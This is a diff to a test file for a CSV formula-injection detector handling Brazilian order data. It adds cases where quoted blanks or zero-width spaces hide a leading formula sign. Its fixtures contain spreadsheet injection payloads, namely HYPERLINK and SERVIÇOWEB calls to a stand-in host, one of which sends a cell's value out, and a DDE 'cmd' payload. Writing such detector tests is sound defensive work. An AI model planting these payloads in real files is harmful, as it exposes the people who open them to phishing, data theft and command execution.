@@ -45,6 +45,9 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
     // An empty quoted text before the sign (red team 53): not read as a quoted text "=…".
     ['an empty quoted text before an equals sign', 'pedido;link\n1069;""=HYPERLINK("http://golpe.example/login")\n'],
     ['an empty quoted text before a DDE link', 'pedido;valor\n1070;""-2+cmd|\' /C calc\'!A0\n'],
+    // A quoted space or zero-width space before the sign is the space before it (red team 54).
+    ['a quoted space before an equals sign', 'pedido,link\n1074," "=HYPERLINK("http://golpe.example/login")\n'],
+    ['a quoted zero-width space before a link', 'pedido;link\n1075;"\u200b"-HIPERLINK("http://golpe.example")\n'],
     // Excel in pt-BR reads its own names in a CSV it opens.
     ['a pt-BR remote call in capitals', 'pedido;cliente\n1066;-SERVIÇOWEB("http://golpe.example/?c="&B2)\n'],
     [
@@ -94,6 +97,7 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
       'pedido;itens\n1;- opção(ões) esgotada(s)\n2;- 2 imagem(ns) anexada(s)\n',
     ],
     ['quoted text that starts with a quote', 'nota\n"""Frete grátis"" = promoção"\n'],
+    ['quoted blanks before a value and a phone number', 'nome;valor;telefone\nAna;" "-15,00;" "+55 11 98765-4321\n'],
     ['a list in capitals', 'pedido;itens\n1;- PRODUTO(S) SEM ESTOQUE\n2;+ BRINDE(S) NA CAIXA\n3;-CAMISETA(P) AZUL\n'],
     ['a quoted list with brackets and separators', 'pedido;nota\n88;"- produto(s) sem estoque; aguardando"\n'],
     ['a tab-separated list with brackets', 'pedido\tvalor\tobs\n1\t-19,90\t- produto(s) sem estoque\n'],
@@ -139,6 +143,7 @@ describe('csvHasFormula: bounded work on hostile shapes', () => {
     ['quoted signed cells, one after another', `${';"+a'.repeat(1_000_000)}\n`],
     ['signed cells whose quotes never close', `${'"-'.repeat(1_000_000)}`],
     ['signed cells after empty quoted texts', `${';""-a'.repeat(1_000_000)}\n`],
+    ['quotes and spaces in turn', `;${'" '.repeat(2_000_000)}-a\n`],
     ['lists in capitals on one line', `${';- PRODUTO(S) SEM ESTOQUE'.repeat(300_000)}\n`],
     ['a bracket closed before a run of spaces', `-X(S)${' '.repeat(2_000_000)}x\n`],
     ['signed cells with strings holding commas', `${',-"a,'.repeat(1_000_000)}`],
